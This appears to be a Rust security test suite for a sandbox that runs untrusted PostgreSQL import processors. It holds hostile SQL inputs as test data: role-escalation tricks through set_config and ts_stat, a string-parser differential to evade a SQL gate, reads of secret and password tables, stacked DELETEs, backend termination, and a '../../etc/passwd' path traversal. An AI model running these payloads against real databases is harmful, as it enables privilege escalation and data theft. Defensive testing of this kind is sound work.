/// The `ts_stat` escalation (its inner query runs as the caller's login under `SET LOCAL ROLE`):
/// the gate refuses the function, and with the gate off PostgreSQL refuses the role.
async fn ts_stat_is_refused_by_the_gate_and_by_postgresql(arena: &Arena) {
    let attack = format!(
        "SELECT * FROM ts_stat($$SELECT set_config('role', '{}', true)::tsvector$$)",
        arena.host_login
    );
    assert_reason(&arena.attack(escalate(&[&attack])).await, &["refused by the SQL gate", "ts_stat()"]);
    let reason = arena.attack_wall(escalate(&[&attack])).await;
    assert_reason(&reason, &[&format!("permission denied to set role \"{}\"", arena.host_login)]);
}

#[tokio::test]
async fn hostile_ts_stat_cannot_make_the_processor_the_hosts_login() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        ts_stat_is_refused_by_the_gate_and_by_postgresql(&arena).await;
    }
}

#[tokio::test]
async fn hostile_ts_rewrite_cannot_make_the_processor_the_hosts_login() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = format!(
            "SELECT ts_rewrite('a'::tsquery, $$SELECT set_config('role', '{}', true)::tsquery, 'b'::tsquery$$)::text",
            arena.host_login
        );
        assert_reason(
            &arena.attack(escalate(&[&attack])).await,
            &["refused by the SQL gate", "ts_rewrite()"],
        );
        let reason = arena.attack_wall(escalate(&[&attack])).await;
        assert_reason(&reason, &[&format!("permission denied to set role \"{}\"", arena.host_login)]);
    }
}

#[tokio::test]
async fn hostile_pg_settings_parser_differential_cannot_make_the_processor_anyone_else() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let off = "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'";
        // With the setting off, the server reads a set_config call where the gate's parser (which
        // assumes it on) reads string literals.
        let differential = format!(
            r"SELECT 'a\' , ' , set_config($$role$$, $${}$$, true) AS c, ' || ' -- '",
            arena.host_login
        );
        let reason = arena.attack(escalate(&[off, &differential])).await;
        assert_reason(&reason, &["refused by the SQL gate", "pg_settings is a system catalog"]);
        // Without the gate the server reads the statement its own way; whether it then calls
        // set_config (refused: the login has no role to switch to) or reads the string literals
        // the gate read (the host sends rows it must size-check as it parsed them), the payoff
        // fails.
        assert_denied(&arena.attack_wall(escalate(&[off, &differential])).await);
    }
}

#[tokio::test]
async fn hostile_role_and_session_authorization_cannot_be_changed_by_any_path() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let h = arena.host_login.clone();
        let paths: Vec<Vec<String>> = vec![
            vec![format!("SELECT set_config('role', '{h}', false)")],
            vec![format!("SELECT set_config('role', '{h}', true)")],
            vec![format!("SELECT set_config('session_authorization', '{h}', false)")],
            vec![format!("SELECT set_config('session_authorization', '{h}', true)")],
            vec![format!("SET ROLE \"{h}\"")],
            vec![format!("SET LOCAL ROLE \"{h}\"")],
            vec![format!("SET SESSION AUTHORIZATION \"{h}\"")],
            vec!["RESET ROLE".into()],
            vec!["RESET SESSION AUTHORIZATION".into()],
            vec![format!(
                "UPDATE pg_settings SET setting = '{h}' WHERE name IN ('role', 'session_authorization')"
            )],
            vec![format!(
                "SELECT * FROM ts_stat($$SELECT set_config('session_authorization', '{h}', false)::tsvector$$)"
            )],
            vec![format!(
                "SELECT query_to_xml($$SELECT set_config('role', '{h}', false)$$, true, false, '')::text"
            )],
            vec![format!("DO $$ BEGIN PERFORM set_config('role', '{h}', false); END $$")],
            vec![format!("EXPLAIN ANALYZE SELECT set_config('role', '{h}', false)")],
            vec![format!("WITH r AS (SELECT set_config('role', '{h}', false)) SELECT * FROM r")],
            vec![
                format!("PREPARE escalate AS SELECT set_config('role', '{h}', false)"),
                "EXECUTE escalate".into(),
            ],
        ];
        for path in paths {
            let steps: Vec<&str> = path.iter().map(String::as_str).collect();
            let reason = arena.attack(escalate(&steps)).await;
            assert_reason(&reason, &["refused by the SQL gate"]);
            assert_denied(&arena.attack_wall(escalate(&steps)).await);
        }
    }
}

#[tokio::test]
async fn hostile_calls_to_the_frameworks_own_functions_change_nothing() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let b = arena.innocent;
        let attacks = [
            format!("SELECT * FROM ingot_claim('{b}', 'probe', 0, 16)"),
            // The one-item claim of earlier hosts, which a role may still be granted.
            format!("SELECT * FROM ingot_claim('{b}', 'probe', 0)"),
            format!("SELECT ingot_open('{b}', 'probe')::text"),
            format!(
                "SELECT ingot_finish_item(NULL, '{b}', '<ITEM_ID>', 0::smallint, '{{\"status\": \"skipped\"}}')::text"
            ),
            format!(
                "SELECT ingot_finish_item(gen_random_uuid(), '{b}', id, 0::smallint, '{{\"status\": \"skipped\"}}')::text \
                 FROM (SELECT gen_random_uuid() AS id) g"
            ),
            format!(
                "SELECT ingot_finish_items(NULL, '{b}', 0::smallint, '[{{\"id\": \"<ITEM_ID>\", \"status\": \"skipped\"}}]')::text"
            ),
            format!(
                "SELECT ingot_finish_items(gen_random_uuid(), '{b}', 0::smallint, '[{{\"status\": \"completed\"}}]')::text"
            ),
            format!("SELECT ingot_batch_transition(NULL, '{b}', 'failed', NULL, 'forged')"),
            format!("SELECT * FROM ingot_batch_info(NULL, '{b}')"),
            format!("SELECT ingot_batch_record(NULL, '{b}', '{{\"metadata\": {{\"forged\": true}}}}')::text"),
            format!("SELECT ingot_check(NULL, '{b}')::text"),
            "SELECT key FROM ingot_secret".into(),
            "SELECT password FROM ingot_processor_roles".into(),
            "LOCK TABLE ingot_processor_roles IN ACCESS EXCLUSIVE MODE".into(),
        ];
        for attack in attacks {
            let item = json!({"mode": "sql_sequence", "query": true, "statements": [attack]});
            let reason = arena.attack(item.clone()).await;
            assert_reason(&reason, &["refused by the SQL gate"]);
            let reason = arena.attack_wall(item).await;
            assert!(
                reason.contains("only the host")
                    || reason.contains("already open")
                    || reason.contains("permission denied for function ingot_check")
                    || reason.contains("permission denied for function ingot_claim")
                    || reason.contains("permission denied for function ingot_finish_item ")
                    || reason.contains("permission denied for table ingot_"),
                "{attack}: the wall's refusal should say why, not {reason:?}"
            );
        }
    }
}

#[tokio::test]
async fn hostile_session_state_left_behind_is_undone_before_the_next_item() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        for setter in [
            "SELECT set_config('search_path', 'pg_catalog', false)",
            "SELECT set_config('default_transaction_read_only', 'on', false)",
            "SELECT set_config('transaction_read_only', 'on', false)",
            "SELECT set_config('default_transaction_isolation', 'serializable', false)",
            "SELECT set_config('statement_timeout', '1', false)",
            "SELECT set_config('lock_timeout', '1', false)",
            "SELECT set_config('idle_in_transaction_session_timeout', '1', false)",
            "SELECT set_config('client_encoding', 'LATIN1', false)",
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'",
            "UPDATE pg_settings SET setting = 'pg_catalog' WHERE name = 'search_path'",
            "SELECT set_config('exit_on_error', 'on', false)",
            "SET enable_indexscan = off",
            "SET work_mem = '1GB'",
            "SELECT pg_advisory_lock(42)",
            "SELECT pg_advisory_lock(hashtext('ingot:processor-roles'))",
            "SELECT lo_create(0)::text",
            "PREPARE leftover AS SELECT 1",
            "DECLARE leftover CURSOR WITH HOLD FOR SELECT 1",
            "CREATE TEMP TABLE leftover (a int)",
            "LISTEN ingot_batches",
        ] {
            let item = json!({"mode": "sql_sequence", "query": true, "statements": [setter]});
            let reason = arena.attack(item.clone()).await;
            assert_reason(&reason, &["refused by the SQL gate"]);
            // Without the gate the statement runs, and may even leave its item completed; what
            // it left in the session is gone before the host's next statement (`contain` checks
            // the next item's session against the clean one).
            let (status, error) = arena.contain(&arena.wall, item).await;
            assert!(status == "completed" || error.is_some(), "{setter}: {status}");
        }
        // And a batch after all that syncs the role and runs as usual.
        arena.attack(json!({"mode": "invalid", "message": "ordinary"})).await;
    }
}

#[tokio::test]
async fn hostile_a_backend_that_terminates_itself_fails_its_item_after_max_attempts() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = query("SELECT pg_terminate_backend(pg_backend_pid())");
        assert_reason(
            &arena.attack(attack.clone()).await,
            &["refused by the SQL gate", "pg_terminate_backend()"],
        );
        let reason = arena.attack_wall(attack).await;
        assert_reason(&reason, &["connection was lost in 3 attempt(s)"]);
        let lost = arena
            .db
            .scalar_i64("SELECT max(interruptions)::bigint FROM import_batch_items WHERE status = 'failed' AND error_code = 'connection_lost'")
            .await;
        assert_eq!(lost, 3, "three attempts (the manifest's default max_attempts), then it fails");
    }
}

#[tokio::test]
async fn hostile_statement_timeout_reset_then_sleep_is_cancelled_by_the_host_at_the_time_limit() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        for reset in ["SELECT set_config('statement_timeout', '0', true)", "SET LOCAL statement_timeout = 0"]
        {
            let attack = json!({"mode": "sql_sequence", "query": true, "statements": [reset, "SELECT pg_sleep(30)::text"]});
            assert_reason(&arena.attack(attack.clone()).await, &["refused by the SQL gate"]);
            let started = std::time::Instant::now();
            let reason = arena.attack_wall(attack).await;
            assert_reason(&reason, &["500 ms time limit"]);
            // The limit plus a small margin, not the 30 s sleep: the item itself, and the whole
            // batch of three items around it.
            let took: f64 = sqlx::query_scalar(
                "SELECT max(duration_ms) FROM import_batch_items WHERE error_code = 'timeout'",
            )
            .fetch_one(&arena.db.pool)
            .await
            .unwrap();
            assert!(took < 2_000.0, "the item held its worker for {took} ms (limit 500 ms)");
            assert!(started.elapsed() < std::time::Duration::from_secs(8), "took {:?}", started.elapsed());
        }
    }
}

#[tokio::test]
async fn hostile_a_processor_digest_naming_a_path_never_loads_a_file_from_outside_the_cache() {
    for host in HOSTS {
        let db = match host {
            Host::Superuser => TestDb::new().await,
            Host::Owner => TestDb::with_owner().await,
        };
        db.apply(SCHEMA).await;
        let dir = tempfile::tempdir().unwrap();
        let cache = dir.path().join("cache");
        let runtime = std::sync::Arc::new(
            ingot::runtime::Runtime::new(ingot::runtime::RuntimeConfig {
                cache_dir: Some(cache.clone()),
                fuel_metering: false,
            })
            .unwrap(),
        );
        let processors = Processors::new(&[("probe", &guest("probe"), Some(MANIFEST))]);
        let manager = support::manager(&db, &processors, std::sync::Arc::clone(&runtime));
        // A valid compiled component of another processor, planted outside the cache under the
        // name a digest of `../../outside/evil` would lead to.
        runtime.load(&guest("customer_data")).unwrap();
        let entries: Vec<std::path::PathBuf> = std::fs::read_dir(cache.join("wasmtime-48"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|e| e == "cwasm"))
            .collect();
        let compiled = &entries[0];
        let config = compiled.file_stem().unwrap().to_str().unwrap().rsplit('-').next().unwrap().to_owned();
        std::fs::create_dir_all(dir.path().join("outside")).unwrap();
        let planted = dir.path().join("outside").join(format!("evil-{config}.cwasm"));
        std::fs::copy(compiled, &planted).unwrap();
        std::fs::copy(format!("{}.mac", compiled.display()), format!("{}.mac", planted.display())).unwrap();

        let path = dir.path().join("items.ndjson");
        std::fs::write(&path, "{\"mode\": \"ok\"}\n{\"mode\": \"ok\"}\n").unwrap();
        let source = InputSource::from_arg(path.to_str().unwrap(), None).unwrap();
        let id = manager.create("probe", source, &CreateOptions::default()).await.unwrap();
        // A forged row: the batch claims to have started with a "digest" that is a path.
        sqlx::query(
            "UPDATE import_batches SET status = 'processing', started_at = now(), processor_digest = '../../outside/evil'
             WHERE id = $1",
        )
        .bind(id)
        .execute(&db.pool)
        .await
        .unwrap();
        let summary = manager.process(id, &ProcessOptions::workers(1), None).await.unwrap();
        assert_eq!(summary.completed, 2, "the probe ran, not the planted code: {:?}", summary.top_errors);
        let echoed = db
            .scalar_i64(&format!(
                "SELECT count(*) FROM import_batch_items WHERE batch_id = '{id}' AND processed_data ? 'echo'"
            ))
            .await;
        assert_eq!(echoed, 2);
        let warned = db
            .scalar_i64(&format!(
                "SELECT count(*) FROM import_logs WHERE batch_id = '{id}' AND message LIKE '%is no longer available on this host%'"
            ))
            .await;
        assert_eq!(warned, 1, "the resume says the version it started with is not available");
    }
}

#[tokio::test]
async fn hostile_a_compiled_component_the_host_did_not_write_is_never_loaded() {
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let config = || ingot::runtime::RuntimeConfig { cache_dir: Some(cache.clone()), fuel_metering: false };
    let runtime = ingot::runtime::Runtime::new(config()).unwrap();
    let probe = runtime.load(&guest("probe")).unwrap();
    let other = runtime.load(&guest("customer_data")).unwrap();
    let entry = |digest: &str| {
        std::fs::read_dir(cache.join("wasmtime-48"))
            .unwrap()
            .map(|e| e.unwrap().path())
            .find(|p| p.extension().is_some_and(|e| e == "cwasm") && p.to_str().unwrap().contains(digest))
            .unwrap()
    };
    // Another processor's compiled code, copied over the probe's entry (with its own HMAC, which
    // is bound to its own name): a valid artifact, but not one the host wrote under this name.
    std::fs::copy(entry(&other.digest), entry(&probe.digest)).unwrap();
    std::fs::copy(
        format!("{}.mac", entry(&other.digest).display()),
        format!("{}.mac", entry(&probe.digest).display()),
    )
    .unwrap();
    let fresh = ingot::runtime::Runtime::new(config()).unwrap();
    let loaded = fresh.load(&guest("probe")).unwrap();
    assert_eq!(loaded.cache, ingot::runtime::cache::CacheOutcome::Compiled, "recompiled, not loaded");
    // A symlink in the cache is never followed.
    let target = entry(&probe.digest);
    std::fs::remove_file(&target).unwrap();
    std::os::unix::fs::symlink(entry(&other.digest), &target).unwrap();
    let fresh = ingot::runtime::Runtime::new(config()).unwrap();
    assert_eq!(fresh.load(&guest("probe")).unwrap().cache, ingot::runtime::cache::CacheOutcome::Compiled);
    // Nor is a digest that is not a sha256.
    assert!(fresh.load_digest("../../etc/passwd").is_none());
}

// Caps and poison values: nothing a processor hands the host can exhaust it, and nothing it hands
// the host for storage can fail more than its own item.

#[tokio::test]
async fn hostile_huge_query_results_fail_the_item_at_the_result_cap() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        for statement in [
            // Many big rows, and one row bigger than the whole budget.
            "SELECT repeat('x', 100000) AS x FROM generate_series(1, 200)",
            "SELECT repeat('x', 9000000) AS x",
        ] {
            let (code, reason) = arena.attack_coded(query(statement)).await;
            assert_eq!(code, "cap_exceeded", "{reason}");
            assert_reason(&reason, &["query results per item", "8388608 bytes"]);
        }
    }
}

#[tokio::test]
async fn hostile_metadata_flood_fails_the_item_at_the_metadata_caps() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let (code, reason) =
            arena.attack_coded(json!({"mode": "metadata_many", "keys": 3000, "bytes": 60_000})).await;
        assert_eq!(code, "cap_exceeded");
        assert_reason(&reason, &["metadata per batch", "1048576 bytes"]);
        let (code, reason) =
            arena.attack_coded(json!({"mode": "metadata_many", "keys": 1001, "bytes": 1})).await;
        assert_eq!(code, "cap_exceeded");
        assert_reason(&reason, &["metadata keys per batch", "1000 keys"]);
        // Nothing of the failed items reached the batch.
        let stored = arena
            .db
            .scalar_i64("SELECT coalesce(max(octet_length(metadata::text)), 0)::bigint FROM import_batches")
            .await;
        assert!(stored < 1 << 10, "{stored} bytes of metadata were stored");
    }
}

#[tokio::test]
async fn hostile_oversized_statements_are_refused_before_they_are_parsed() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        // 240 KB, 120,000 select-list items.
        let huge = format!("SELECT {}", vec!["1"; 120_000].join(","));
        let (code, reason) = arena.attack_coded(query(&huge)).await;
        assert_eq!(code, "cap_exceeded");
        assert_reason(&reason, &["SQL text per statement", "65536 bytes"]);
    }
}

#[tokio::test]
async fn hostile_interleaved_stdout_and_stderr_writes_stay_within_the_log_line_cap() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let before = fingerprint(&arena.db, None).await;
        let batch =
            arena.run(&[json!({"mode": "stdio_alternate", "writes": 65_536}), json!({"mode": "ok"})]).await;
        let lines = arena
            .db
            .scalar_i64(&format!(
                "SELECT count(*) FROM import_logs WHERE batch_id = '{batch}' AND item_index = 0 AND source <> 'host'"
            ))
            .await;
        assert!(lines <= 1_000, "{lines} log lines for one item (cap: 1000)");
        let noted = arena
            .db
            .scalar_i64(&format!(
                "SELECT count(*) FROM import_logs WHERE batch_id = '{batch}' AND item_index = 0
                 AND source = 'host' AND message LIKE 'processor output truncated%'"
            ))
            .await;
        assert_eq!(noted, 1, "the truncation is noted once");
        assert_eq!(arena.item(batch, 1).await.0, "completed");
        assert_eq!(fingerprint(&arena.db, Some(batch)).await, before);
    }
}

#[tokio::test]
async fn hostile_huge_error_messages_and_codes_are_cut_to_their_caps() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let attack = json!({"mode": "big_error", "message_bytes": 8_000_000, "code_bytes": 3_200, "field_bytes": 3_000});
        let batch = arena.run(&[attack, json!({"mode": "ok"})]).await;
        let row = sqlx::query(
            "SELECT status, error_code, error_field, error_message FROM import_batch_items
             WHERE batch_id = $1 AND item_index = 0",
        )
        .bind(batch)
        .fetch_one(&arena.db.pool)
        .await
        .unwrap();
        let status: String = row.get("status");
        let code: String = row.get("error_code");
        let field: String = row.get("error_field");
        let message: String = row.get("error_message");
        assert_eq!(status, "failed");
        assert_eq!(code, "c".repeat(64), "codes are cut to 64 bytes");
        assert_eq!(field, "f".repeat(256), "fields are cut to 256 bytes");
        assert!(message.starts_with(&"e".repeat(8_000)), "{}", &message[..100]);
        assert!(message.len() <= 8_192 + 100, "{} bytes stored", message.len());
        assert_reason(&message, &["cut: the message had 8000000 bytes"]);
        // The log line that repeats it is cut the same way.
        let logged = arena
            .db
            .scalar_i64(&format!(
                "SELECT max(octet_length(message))::bigint FROM import_logs WHERE batch_id = '{batch}'"
            ))
            .await;
        assert!(logged <= 8_192 + 200, "{logged} bytes in one log line");
        assert_eq!(arena.item(batch, 1).await.0, "completed");
    }
}

/// Each JSON text, handed to the host in `field` of a probe item of `mode`, fails only its item
/// with `code` and a reason naming `what` and why PostgreSQL would refuse it.
async fn assert_json_refused(mode: &str, field: &str, code: &str, what: &str, cases: &[(String, &str)]) {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        for (text, why) in cases {
            let (got, reason) = arena.attack_coded(json!({"mode": mode, field: text})).await;
            assert_eq!(got, code, "{reason}");
            assert_reason(&reason, &[what, why]);
        }
    }
}

#[tokio::test]
async fn hostile_processed_data_postgresql_refuses_fails_only_its_item() {
    let cases = [
        (r#"{"a":"\ud800"}"#.to_owned(), "surrogate"),
        (r#"{"a": 1e999999}"#.to_owned(), "numeric"),
        (format!("{}1{}", "[".repeat(32_000), "]".repeat(32_000)), "nested"),
    ];
    assert_json_refused("raw_outcome", "json", "invalid_outcome", "processed data", &cases).await;
}

#[tokio::test]
async fn hostile_log_details_postgresql_refuses_fail_only_their_item() {
    // Under the log details cap (64 KiB), so that the depth is what is refused.
    let cases = [
        (r#"{"a":"\udc00"}"#.to_owned(), "surrogate"),
        (r#"[1e999999]"#.to_owned(), "numeric"),
        (format!("{}1{}", "{\"a\":".repeat(10_000), "}".repeat(10_000)), "nested"),
    ];
    assert_json_refused("raw_log", "details", "invalid_log", "log details", &cases).await;
}

#[tokio::test]
async fn hostile_metadata_values_postgresql_refuses_are_handed_back_to_the_processor() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let (code, reason) =
            arena.attack_coded(json!({"mode": "raw_metadata", "key": "k", "value": r#""\ud800""#})).await;
        // The processor got the refusal as an error, and failed its item with it.
        assert_eq!(code, "metadata_refused");
        assert_reason(&reason, &["metadata", "surrogate"]);
        // Numbers are kept exactly as written.
        let batch = arena
            .run(&[
                json!({"mode": "raw_metadata", "key": "exact", "value": "12345678901234567890.123456789"}),
            ])
            .await;
        let exact: String = sqlx::query_scalar("SELECT metadata->>'exact' FROM import_batches WHERE id = $1")
            .bind(batch)
            .fetch_one(&arena.db.pool)
            .await
            .unwrap();
        assert_eq!(exact, "12345678901234567890.123456789");
    }
}

#[tokio::test]
async fn hostile_a_deferred_constraint_violation_fails_only_its_item() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        let (code, reason) = arena.attack_coded(sql("INSERT INTO children (parent) VALUES (999)")).await;
        assert_eq!(code, "sql_error", "{reason}");
        assert_reason(&reason, &["foreign key", "23503"]);
        assert_eq!(arena.db.scalar_i64("SELECT count(*) FROM children").await, 0);
    }
}

#[tokio::test]
async fn hostile_batch_hooks_whose_logs_postgresql_refuses_still_end_their_batch() {
    for host in HOSTS {
        let arena = Arena::new(host).await;
        for hook in ["complete_log_details", "start_log_details"] {
            let path = arena.files.path().join(format!("{hook}.ndjson"));
            std::fs::write(&path, "{\"mode\": \"ok\"}\n{\"mode\": \"ok\"}\n").unwrap();
            // Both files hold the same items: each is a new import.
            let create = CreateOptions {
                metadata: Some(json!({ hook: r#"{"a":"\ud800"}"# })),
                allow_duplicate: true,
                ..Default::default()
            };
            let summary = arena
                .manager
                .run(
                    "probe",
                    InputSource::from_arg(path.to_str().unwrap(), None).unwrap(),
                    &create,
                    &ProcessOptions::workers(1),
                    None,
                )
                .await
                .expect("the host survives");
            let noted = arena
                .db
                .scalar_i64(&format!(
                    "SELECT count(*) FROM import_logs WHERE batch_id = '{}' AND source = 'host' AND message LIKE '%log details%surrogate%'",
                    summary.batch_id
                ))
                .await;
            assert_eq!(noted, 1, "{hook}: the refusal is recorded on the batch");
            if hook == "complete_log_details" {
                // Every item ran: the batch is completed, and a second run has nothing to do.
                assert_eq!(summary.status, ingot::store::BatchStatus::Completed, "{hook}");
                assert_eq!(summary.completed, 2);
            } else {
                // on-batch-start failed: the batch fails with the reason, before any item.
                assert_eq!(summary.status, ingot::store::BatchStatus::Failed, "{hook}");
                assert_reason(
                    summary.error_message.as_deref().unwrap_or(""),
                    &["on-batch-start", "surrogate"],
                );
            }
            let again =
                arena.manager.process(summary.batch_id, &ProcessOptions::workers(1), None).await.unwrap();
            assert_eq!(again.status, summary.status, "{hook}: no resume loop");
        }
    }
}

/// Peak RSS of `ingot run probe` over `items` (the manifest's guest limit is 32 MiB), and the
/// summary it printed.
fn run_measuring_peak(
    db: &TestDb,
    processors: &Processors,
    dir: &std::path::Path,
    items: &[Value],
) -> (u64, Value) {
    let name = Uuid::new_v4().simple().to_string();
    let path = dir.join(format!("{name}.ndjson"));
    std::fs::write(&path, items.iter().map(|i| format!("{i}\n")).collect::<String>()).unwrap();
    let out = dir.join(format!("{name}.json"));
    let mut command = support::ingot_command(
        dir,
        &db.url,
        processors.path(),
        &["run", "probe", path.to_str().unwrap(), "--workers", "1", "--json"],
    );
    command.stdout(std::fs::File::create(&out).unwrap()).stderr(std::process::Stdio::null());
    let (status, peak) = support::peak_rss::wait_measuring_peak_rss(command.spawn().unwrap());
    let summary: Value = serde_json::from_slice(&std::fs::read(&out).unwrap()).unwrap_or(Value::Null);
    assert!(matches!(status.code(), Some(0 | 3)), "exit {status}: {summary}");
    (peak, summary)
}

#[tokio::test]
async fn hostile_items_keep_the_hosts_memory_within_its_budget() {
    let db = TestDb::new().await;
    db.apply(SCHEMA).await;
    // Time limits long enough that the caps, not the clock, stop each attack.
    let manifest =
        "[grants]\nprobe_rows = [\"select\", \"insert\"]\n[limits]\ntimeout_ms = 30000\nmemory_mb = 32\n";
    let processors = Processors::new(&[("probe", &guest("probe"), Some(manifest))]);
    let dir = tempfile::tempdir().unwrap();
    // Warm the compile cache, then measure an innocent run: the host's idle size.
    run_measuring_peak(&db, &processors, dir.path(), &[json!({"mode": "ok"})]);
    let (idle, _) =
        run_measuring_peak(&db, &processors, dir.path(), &[json!({"mode": "ok"}), json!({"mode": "ok"})]);
    let budget = idle + (64 << 20) + (32 << 20);
    // As many nodes as a statement within the size cap can hold, and valid for PostgreSQL.
    let max_statement = format!("SELECT 1 AS one WHERE 1 IN ({})", vec!["1"; 32_000].join(","));
    for (attack, code) in [
        (query("SELECT repeat('x', 50000000) AS x FROM generate_series(1, 200)"), Some("cap_exceeded")),
        (query("SELECT repeat('x', 300000000) AS x"), Some("cap_exceeded")),
        (json!({"mode": "metadata_many", "keys": 3000, "bytes": 60_000}), Some("cap_exceeded")),
        (query(&format!("SELECT {}", vec!["1"; 120_000].join(","))), Some("cap_exceeded")),
        (query(&max_statement), None),
        (json!({"mode": "stdio_alternate", "writes": 65_536}), None),
        (json!({"mode": "log", "lines": 100_000, "message": "x".repeat(8_000)}), Some("cap_exceeded")),
        (
            json!({"mode": "big_error", "message_bytes": 20_000_000, "code_bytes": 3_200}),
            Some(&"c".repeat(64) as &str),
        ),
        (json!({"mode": "huge_outcome", "bytes": 6_000_000}), Some("cap_exceeded")),
    ] {
        let label: String = attack.to_string().chars().take(80).collect();
        let (peak, summary) =
            run_measuring_peak(&db, &processors, dir.path(), &[attack, json!({"mode": "ok"})]);
        println!("{label}: peak {} MiB (idle {} MiB)", peak >> 20, idle >> 20);
        assert_eq!(summary["status"], "completed", "{label}: {summary}");
        // The attack met its cap (not a time limit), and the next item ran.
        match code {
            Some(code) => {
                assert_eq!(summary["failed"], 1, "{label}: {summary}");
                assert_eq!(summary["top_errors"][0]["code"], code, "{label}: {summary}");
            }
            None => assert_eq!(summary["completed"], 2, "{label}: {summary}"),
        }
        assert!(peak < budget, "{label}: peak RSS {} MiB, budget {} MiB", peak >> 20, budget >> 20);
    }
}

// The same sandbox around a processor written in C (`make test-guests` builds it with zig cc and
// `ingot componentize`): nothing about the wall depends on the language.

async fn c_arena(host: Host) -> Arena {
    Arena::with_probe(host, &guest("c_probe")).await
}

#[tokio::test]
async fn hostile_c_infinite_loop_is_stopped_by_the_time_limit() {
    for host in HOSTS {
        let reason = c_arena(host).await.attack(json!({"mode": "loop"})).await;
        assert_reason(&reason, &["500 ms time limit"]);
    }
}

#[tokio::test]
async fn hostile_c_memory_bomb_is_stopped_at_the_memory_cap() {
    for host in HOSTS {
        let reason = c_arena(host).await.attack(json!({"mode": "alloc"})).await;
        assert_reason(&reason, &["32 MiB memory limit"]);
    }
}

#[tokio::test]
async fn hostile_c_forbidden_sql_is_refused_by_the_gate_and_by_postgresql() {
    for host in HOSTS {
        let arena = c_arena(host).await;
        ts_stat_is_refused_by_the_gate_and_by_postgresql(&arena).await;
        let read = query("SELECT source_data FROM import_batch_items");
        assert_reason(&arena.attack(read.clone()).await, &["refused by the SQL gate", "Ingot's own tables"]);
        assert_reason(&arena.attack_wall(read).await, &["permission denied for table import_batch_items"]);
        assert_reason(
            &arena.attack(sql("INSERT INTO secrets VALUES (2, 'planted')")).await,
            &["permission denied for table secrets"],
        );
        assert_reason(
            &arena.attack(sql("SELECT 1; DELETE FROM secrets")).await,
            &["refused by the SQL gate"],
        );
    }
}
